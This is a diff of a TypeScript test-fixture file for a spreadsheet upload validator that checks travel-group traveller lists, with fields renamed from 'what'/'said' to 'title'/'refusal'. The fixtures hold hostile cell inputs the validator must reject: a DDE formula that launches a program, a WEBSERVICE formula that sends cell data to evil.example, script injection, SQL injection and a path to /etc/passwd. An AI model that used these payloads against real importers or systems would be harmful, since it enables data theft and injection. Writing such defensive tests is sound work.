@@ -4,46 +4,56 @@ import { dateCell, travellers, withFirst, workbookOf } from './group-rows.ts'
 import { withOldFormula } from './old-formula.ts'
 import { handMade, sheetXml } from './workbook-parts.ts'
 
-/** A file that somebody may send; `said: null`: it is read as any other. */
+/** An uploaded file; `refusal: null` means that it must be read without one. */
 export type GroupFileCase = {
-  readonly what: string
+  readonly title: string
   readonly fileName: string
   readonly content: () => Uint8Array
-  readonly said: RegExp | null
+  readonly refusal: RegExp | null
 }
 
 const formula = (f: string): CellObject => ({ t: 's', v: 'Putri', f })
-const formulaSaid = /^Row 2, firstname: There is a formula in this cell/
+const formulaRefusal = /^Row 2, firstname: There is a formula in this cell/
 const name = /^Row 2, firstname: Names have letters/
 
 type CellCase = readonly [
-  what: string,
+  title: string,
   column: GroupColumn,
   cell: CellObject | string | number,
-  said: RegExp | null,
+  refusal: RegExp | null,
 ]
 
 const cells: readonly CellCase[] = [
-  ['a formula', 'firstname', formula('UPPER("putri")'), formulaSaid],
-  ['a formula that starts a program (DDE)', 'firstname', formula("cmd|'/c calc'!A0"), formulaSaid],
-  ['a formula that calls home', 'firstname', formula('WEBSERVICE("https://evil.example/"&J2)'), formulaSaid],
-  ['a formula with a link', 'firstname', formula('HYPERLINK("https://evil.example","Putri")'), formulaSaid],
-  ['a formula in itself', 'firstname', formula('E2'), formulaSaid],
+  ['a formula', 'firstname', formula('UPPER("putri")'), formulaRefusal],
+  ['a formula that starts a program (DDE)', 'firstname', formula("cmd|'/c calc'!A0"), formulaRefusal],
+  [
+    'a formula that calls home',
+    'firstname',
+    formula('WEBSERVICE("https://evil.example/"&J2)'),
+    formulaRefusal,
+  ],
+  [
+    'a formula with a link',
+    'firstname',
+    formula('HYPERLINK("https://evil.example","Putri")'),
+    formulaRefusal,
+  ],
+  ['a formula in itself', 'firstname', formula('E2'), formulaRefusal],
   [
     'a formula of a whole area',
     'firstname',
     { t: 's', v: 'Putri', f: 'A1:A9', F: 'E2:E2' } as CellObject, // the library's type has no such pair
-    formulaSaid,
+    formulaRefusal,
   ],
   ['a text like a formula', 'firstname', "=cmd|'/c calc'!A0", name],
   ['a text like a sum', 'firstname', '@SUM(A1:A9)', name],
   ['a text like a number', 'firstname', '+62811', name],
   ['a script', 'firstname', '<script>alert(1)</script>', name],
   ['a statement', 'lastname', "Robert'); drop table booking;--", /^Row 2, lastname: Names have letters/],
-  ['a way to other files', 'identity_no', '../../etc/passwd', /identity_no: An identity number has/],
+  ['a path to other files', 'identity_no', '../../etc/passwd', /identity_no: An identity number has/],
   ['an error', 'firstname', { t: 'e', v: 0x17 }, /^Row 2, firstname: There is an error of the spreadsheet/],
   [
-    'a date of the American order',
+    'a date in American order',
     'date_of_birth',
     '05/25/1985',
     /date_of_birth: Which day is this: 1985-05-25\?/,
@@ -76,41 +86,41 @@ const cells: readonly CellCase[] = [
   ['the longest text of a cell', 'firstname', 'x'.repeat(32_767), /^Row 2, firstname: At most 40 characters/],
   ['a number as large as can be', 'row_no', 1.7e308, /row_no: /],
   ['a rounded number', 'identity_no', 3_174_012_345_678_900, /keeps 15 digits of a number/],
-  ['a truth', 'pax_type', { t: 'b', v: true }, /pax_type: The type is ADT/],
+  ['a boolean', 'pax_type', { t: 'b', v: true }, /pax_type: The type is ADT/],
   ['a senior', 'pax_type', 'SNR', /takes no seniors/],
 ]
 
-/** One cell each that is not what a person typed. */
+/** Files with one hostile cell each. */
 export const hostileCells: readonly GroupFileCase[] = [
-  ...cells.map(([what, column, cell, said]) => ({
-    what,
+  ...cells.map(([title, column, cell, refusal]) => ({
+    title,
     fileName: 'tour.xlsx',
     content: () => workbookOf(withFirst({ [column]: cell })),
-    said,
+    refusal,
   })),
   {
-    what: 'an error in an old workbook',
+    title: 'an error in an old workbook',
     fileName: 'tour.xls',
     content: () => workbookOf(withFirst({ firstname: { t: 'e', v: 0x2a } }), 'biff8'),
-    said: /^Row 2, firstname: There is an error/,
+    refusal: /^Row 2, firstname: There is an error/,
   },
   {
-    what: 'a formula in an old workbook',
+    title: 'a formula in an old workbook',
     fileName: 'tour.xls',
     content: () => withOldFormula(workbookOf(travellers(11), 'biff8')),
-    said: /^Row 2, row_no: There is a formula in this cell/,
+    refusal: /^Row 2, row_no: There is a formula in this cell/,
   },
   {
-    what: 'a formula that others share, without a value',
+    title: 'a formula that others share, without a value',
     fileName: 'tour.xlsx',
     content: () => handMade(sheetXml({ first: '<c r="E2"><f t="shared" ref="E2:E9" si="0">A2</f></c>' })),
-    said: /^Row 2, firstname: /,
+    refusal: /^Row 2, firstname: /,
   },
   {
-    what: 'merged cells',
+    title: 'merged cells',
     fileName: 'tour.xlsx',
     content: () =>
       handMade(sheetXml({ after: '<mergeCells count="1"><mergeCell ref="E2:F3"/></mergeCells>' })),
-    said: /^Row 2, firstname: This cell is merged with others/,
+    refusal: /^Row 2, firstname: This cell is merged with others/,
   },
 ]
